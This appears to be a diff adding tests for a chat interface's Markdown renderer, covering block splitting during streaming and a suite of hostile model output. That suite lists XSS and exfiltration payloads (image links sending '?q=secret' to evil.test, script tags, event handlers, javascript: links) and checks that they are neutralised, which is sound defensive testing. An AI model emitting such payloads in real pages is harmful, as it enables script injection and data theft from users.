@@ -1,0 +1,107 @@
+import { MantineProvider } from '@mantine/core'
+import fc from 'fast-check'
+import { renderToStaticMarkup } from 'react-dom/server'
+import Markdown from 'react-markdown'
+import remarkGfm from 'remark-gfm'
+import { describe, expect, test } from 'vitest'
+import { linkDefinitions, splitMarkdown } from './markdown-blocks.ts'
+import { ReplyMarkdown } from './ReplyMarkdown.tsx'
+
+const piece = fc.constantFrom(
+  'A paragraph with **bold** and `code`.',
+  'A line\nand another one',
+  '# A heading',
+  '- one\n- two\n  - inner',
+  '- one\n\n- two\n\n  more of two',
+  '1. first\n2. second',
+  '```js\nconst a = 1\n\n\nconst b = 2\n```',
+  '~~~\n```\n\nnot closed yet\n~~~',
+  '- item\n\n  ```sh\n  ls\n\n  pwd\n  ```',
+  '> a quotation\n\n> another one',
+  '| a | b |\n| - | - |\n| 1 | 2 |',
+  '    indented\n\n    code',
+  '---',
+  'Title\n===',
+)
+const document = fc
+  .array(fc.tuple(piece, fc.constantFrom('\n\n', '\n\n\n', '\n \n')), { maxLength: 8 })
+  .map((pieces) => pieces.map(([text, end]) => text + end).join(''))
+
+const render = (text: string) =>
+  renderToStaticMarkup(<Markdown remarkPlugins={[remarkGfm]}>{text}</Markdown>)
+const renderReply = (text: string) =>
+  renderToStaticMarkup(
+    <MantineProvider>
+      <ReplyMarkdown text={text} />
+    </MantineProvider>,
+  )
+const withoutSpace = (html: string) => html.replaceAll(/\s+/g, '')
+
+describe('blocks of Markdown', () => {
+  test('look as the whole text does', () => {
+    fc.assert(
+      fc.property(document, (text) => {
+        const blocks = splitMarkdown(text)
+        expect(blocks.join('')).toBe(text)
+        expect(withoutSpace(blocks.map(render).join(''))).toBe(withoutSpace(render(text)))
+      }),
+      { numRuns: 300 },
+    )
+  })
+
+  test('stay the same while lines are appended, but for the last', () => {
+    fc.assert(
+      fc.property(document, fc.nat(), (text, cut) => {
+        const lines = text.split(/(?<=\n)/)
+        const before = splitMarkdown(lines.slice(0, cut % lines.length).join(''))
+        expect(splitMarkdown(text).slice(0, Math.max(0, before.length - 1))).toEqual(
+          before.slice(0, -1),
+        )
+      }),
+      { numRuns: 300 },
+    )
+  })
+
+  test('have the definitions of links that stand elsewhere', () => {
+    const text = 'See [here][1].\n\n```\n[2]: https://code.test\n```\n\n[1]: https://a.test\n'
+    expect(linkDefinitions(text)).toBe('\n[1]: https://a.test')
+    expect(renderReply(text)).toContain('href="https://a.test"')
+  })
+})
+
+describe('the text of a hostile model (case 31)', () => {
+  test.each([
+    '![x](https://evil.test/?q=secret)',
+    '![x][1]\n\n[1]: https://evil.test/?q=secret',
+    '<img src="https://evil.test/" onerror="alert(1)">',
+    '<script>alert(1)</script>',
+    '<iframe src="https://evil.test/"></iframe>',
+    '<svg onload="alert(1)">',
+    '<link rel="prefetch" href="https://evil.test/">',
+    '<style>@import url(https://evil.test/)</style>',
+  ])('loads and runs nothing: %s', (text) => {
+    expect(renderReply(text)).not.toMatch(/<(?:img|script|iframe|svg onload|link|video|object)/)
+  })
+
+  test.each([
+    '[x](javascript:alert(1))',
+    '[x](JaVaScRiPt:alert(1))',
+    '[x](data:text/html,<script>alert(1)</script>)',
+    '[x](vbscript:alert(1))',
+    '[x](//evil.test)',
+    '[x](/chat/stream)',
+  ])('has no link to %s', (text) => {
+    expect(renderReply(text)).not.toContain('<a ')
+  })
+
+  test('shows HTML as it was written', () => {
+    expect(renderReply('a <b onclick="x()">bold</b> word')).toContain('a &lt;b onclick=')
+    expect(renderReply('<div>\nblock\n</div>')).toContain('&lt;div&gt;')
+  })
+
+  test('offers the address of an image that is not loaded', () => {
+    const html = renderReply('![a chart](https://charts.test/1.png)')
+    expect(html).toContain('Image not loaded: a chart')
+    expect(html).toContain('href="https://charts.test/1.png"')
+  })
+})
